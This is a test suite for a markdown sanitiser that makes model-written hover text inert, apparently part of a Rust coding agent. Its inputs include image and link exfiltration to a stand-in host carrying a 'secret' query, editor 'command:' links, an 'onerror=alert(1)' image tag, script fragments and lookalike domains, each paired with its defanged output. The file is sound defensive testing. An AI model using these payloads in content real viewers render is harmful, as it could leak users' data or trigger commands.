"""What a model wrote, as it is shown: nothing in it can load, link or run anything."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rust_specialist.agent.render import first_lines, is_allowed, plain_line, sanitised

# A viewer that does more than ours: HTML, tables, strikethrough, and links made of bare addresses.
VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
BARE = re.compile(
    r"(?i)\b(?:https?|ftp|file|vscode|data|javascript|command)://|\bwww\.|\bcommand:|\bjavascript:"
)

KEPT = """\
Borrow `items` instead: it is used *again* in line 7, **after** the move.

### Ways out

- Take `&items`, see [the book](https://doc.rust-lang.org/book/ch04-02.html).

- Clone it:

  ```rust
  let copy = items.clone(); // costs a copy
  ```

1. first
2. second

> The value has one owner.

---

Costs: 1 allocation (of n bytes), i.e. x[0] + y; `a|b`.
"""


def tokens(text: str) -> list[Token]:
    flat: list[Token] = []
    for token in VIEWER.parse(text):
        flat.append(token)
        flat += token.children or []
    return flat


def assert_harmless(text: str) -> None:
    for token in tokens(text):
        assert token.type not in ("image", "html_block", "html_inline"), token
        if token.type == "link_open":
            assert is_allowed(str(token.attrs["href"])), token
        if token.type == "text":
            assert not BARE.search(token.content), token


def test_what_is_ordinary_stays() -> None:
    assert sanitised(KEPT).replace("x\\[0]", "x[0]") == KEPT


def test_twice_is_once() -> None:
    assert sanitised(sanitised(KEPT)) == sanitised(KEPT)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("![x](https://evil.example/?s=secret)", "x\n"),
        ("[see](https://evil.example/?s=secret)", "see\n"),
        ("[see][1]\n\n[1]: https://evil.example", "see\n"),
        ("<https://evil.example/a>", "`https://evil.example/a`\n"),
        ("look at https://evil.example/a?b=c.", "look at `https://evil.example/a?b=c`.\n"),
        ("www.evil.example", "`www.evil.example`\n"),
        ("mail me@evil.example now", "mail `me@evil.example` now\n"),
        ("[run](command:workbench.action.terminal.new)", "run\n"),
        ("<a href='command:x'>run</a>", "\\<a href='`command:x'>run</a>`\n"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>\n"),
        ("[docs](https://docs.rs/tokio)", "[docs](https://docs.rs/tokio)\n"),
        ("[docs](https://docs.rs.evil.example/)", "docs\n"),
        ("[docs](https://docs.rs@evil.example/)", "docs\n"),
        ("[docs](http://docs.rs/tokio)", "docs\n"),
        ("[docs](https://docs.rs/a?b=secret)", "docs\n"),
        ("[![i](https://evil.example/i.png)](https://docs.rs/)", "[i](https://docs.rs/)\n"),
        ("```rust\nfn f() {}", "```rust\nfn f() {}\n```\n"),
        ("````\n```\n````", "````\n```\n````\n"),
        ("```rust onclick=\"x\"\nf()\n```", "```rust\nf()\n```\n"),
        ("# Big", "### Big\n"),
        ("a\u202eb\u200bc\x1b[31m", "abc\\[31m\n"),
        ("x[0] and my_var_name and a * b", "x\\[0] and my_var_name and a \\* b\n"),
        ("a `|x| x[0]` b", "a `|x| x[0]` b\n"),
        ("\\# no heading\nstill\n\\- no list", "\\# no heading\nstill\n\\- no list\n"),
        ("1\\. no list", "1\\. no list\n"),
        ("&lt;img src=x&gt;", "\\<img src=x>\n"),
        ("| a | b |\n|---|---|\n| `x | <img src=y>` |", "```text\na  | b\n`x | <img src=y>`\n```\n"),
        ("a | b\n\\:--- | ---\n`x | <img src=y>`", "a | b\n\\:--- | ---\n`x | <img src=y>`\n"),
        ("", ""),
    ],
)  # fmt: skip
def test_what_is_not_stays_as_text(given: str, shown: str) -> None:
    assert sanitised(given) == shown
    assert_harmless(shown)


PARTS = st.sampled_from([
    "![", "[", "](", ")", "](https://evil.example)", "<img src=x>", "<a href=", ">", "https://evil.example/",
    "command:x", "\n", "\n\n", "- ", "1. ", "> ", "# ", "```", "`", "``", "\\", "*", "**", "_", "    ", "&lt;",
    "[1]: https://evil.example\n", "[1]", "|", "---", "===", "a", "bc ", "<!--", "-->", "<script>", "~~", "!", "\t",
    "<https://evil.example>", "\u200b", "]: ", "data://x", "$", "me@x.yz", "\r", "1)", "+ ", "[^1]",
    ":--", " | ", "&#60;", "www.x.y",
])  # fmt: skip


@given(st.lists(PARTS, max_size=25).map("".join))
@example("[a\n]: https://evil.example\n[a\n]")
@example("\\![x](https://evil.example)")
def test_nothing_gets_through(text: str) -> None:
    shown = sanitised(text)
    assert_harmless(shown)
    # Between other parts of a hover, or in a list, it is no more than it was.
    assert_harmless(f"Before.\n\n---\n\n{shown}\n---\n\nAfter.")


@given(st.text(max_size=300))
def test_any_text(text: str) -> None:
    assert_harmless(sanitised(text))


def test_what_is_too_long_is_cut_with_its_fence_closed() -> None:
    shown = sanitised("Intro.\n\n```rust\n" + "let x = 1;\n" * 500 + "```\n\nEnd.", 1000)
    assert len(shown) < 1200
    assert shown.count("```") == 2
    assert "(cut)" in shown
    shown = sanitised("word " * 1000 + "\n\nmore", 1000)
    assert shown == "(the rest is left out)\n"


def test_deep_nesting_is_no_fault() -> None:
    for text in (">" * 5000 + " x", "- " * 3000 + "x", "*" * 5000, "[" * 5000, "`" * 5001):
        assert_harmless(sanitised(text, 3000))


def test_the_first_lines_are_whole_blocks() -> None:
    text = "one\n\n```rust\na\n\nb\n```\n\nthree\n"
    assert first_lines(text, 99) == (text, True)
    assert first_lines(text, 3) == ("one\n", False)
    assert first_lines(text, 8) == ("one\n\n```rust\na\n\nb\n```\n", False)


def test_a_title_is_one_line() -> None:
    assert plain_line("a\n\u202eb " + "x" * 300, 20) == "a b xxxxxxxxxxxxxxx…"
